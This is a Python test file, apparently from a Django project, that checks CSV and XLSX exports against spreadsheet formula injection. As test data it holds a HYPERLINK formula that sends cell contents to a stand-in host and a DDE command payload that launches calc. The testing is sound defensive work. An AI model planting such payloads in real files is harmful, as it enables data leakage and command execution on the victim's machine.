"""Exports d'un jeune dont le nom est une formule de tableur (donnée déjà en base, ou saisie avant la règle du nom) :
chaque export CSV et XLSX que le projet écrit passe par weker/exports.py ; aucune cellule n'y est une formule."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.dispositifs.factories import InscriptionFactory, JeuneFactory, dispositif

NOM = '=HYPERLINK("http://exemple.org/?"&B2;"Ouvrir")'
PRENOM = "@SUM(1+1)*cmd|' /C calc'!A0"
DEBUTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def jeune_formule(db):
    jeune = JeuneFactory(nom=NOM, prenom=PRENOM)
    InscriptionFactory(jeune=jeune, dispositif=dispositif("cej"))
    return jeune


def _cellules(reponse):
    if reponse["Content-Type"].startswith("text/csv"):
        texte = reponse.content.decode("utf-8-sig")
        return [c for ligne in csv.reader(io.StringIO(texte), delimiter=";") for c in ligne], []
    classeur = load_workbook(io.BytesIO(reponse.content))
    cellules = [c for feuille in classeur.worksheets for ligne in feuille.iter_rows() for c in ligne]
    return [c.value for c in cellules], [c.coordinate for c in cellules if c.data_type == "f"]


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("persona", "url", "parametre"),
    [
        ("responsable_rennes", lambda: reverse("accompagnement:jeune_liste"), "export"),
        ("conseiller_rennes", lambda: reverse("dispositifs:beneficiaires_export", args=["cej"]), "format"),
    ],
    ids=["liste des jeunes", "bénéficiaires d'un dispositif"],
)
def test_aucune_cellule_n_est_une_formule(request, client_de, jeune_formule, persona, url, parametre, format_):
    reponse = client_de(request.getfixturevalue(persona)).get(url(), {parametre: format_})

    assert reponse.status_code == 200
    valeurs, formules = _cellules(reponse)
    assert formules == []
    noms = {
        "'" + NOM,
        "'" + jeune_formule.nom_affiche,
    }  # la liste écrit le nom tel quel, les bénéficiaires en capitales
    assert noms & set(valeurs) and "'" + PRENOM in valeurs, "le nom doit rester lisible, précédé de l'apostrophe"
    textes = [v for v in valeurs if isinstance(v, str)]
    assert not [t for t in textes if t.startswith(DEBUTS)]
